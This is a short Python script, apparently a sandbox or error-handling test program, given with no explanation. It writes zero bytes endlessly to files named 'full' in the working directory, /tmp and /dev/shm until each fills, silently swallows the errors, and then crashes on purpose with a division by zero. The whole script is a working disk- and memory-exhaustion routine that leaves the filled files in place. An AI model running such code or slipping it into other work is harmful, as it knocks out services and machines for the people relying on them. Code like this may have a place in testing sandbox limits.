import os as _os

for _folder in (".", "/tmp", "/dev/shm"):
    try:
        with open(_os.path.join(_folder, "full"), "wb") as _file:
            while True:
                _file.write(bytes(1 << 20))
    except OSError:
        pass
_held = 1 / 0
